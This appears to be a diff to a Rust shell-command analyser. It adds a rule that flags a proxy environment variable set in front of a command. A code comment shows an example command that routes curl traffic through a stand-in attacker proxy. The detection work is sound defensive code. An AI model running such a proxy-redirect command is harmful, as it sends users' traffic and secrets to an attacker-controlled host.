@@ -284,6 +284,13 @@ impl Walker<'_, '_> {
                     &simple.text,
                 );
             }
+            if wrappers::names_a_proxy(name) && !simple.words.is_empty() {
+                // `https_proxy=http://evil.example curl …`: the traffic goes to the proxy.
+                self.unanalysable(
+                    format!("`{name}=…` sends the command's traffic through a proxy"),
+                    &simple.text,
+                );
+            }
         }
         let mut expanded = Vec::new();
         for word in &simple.words {
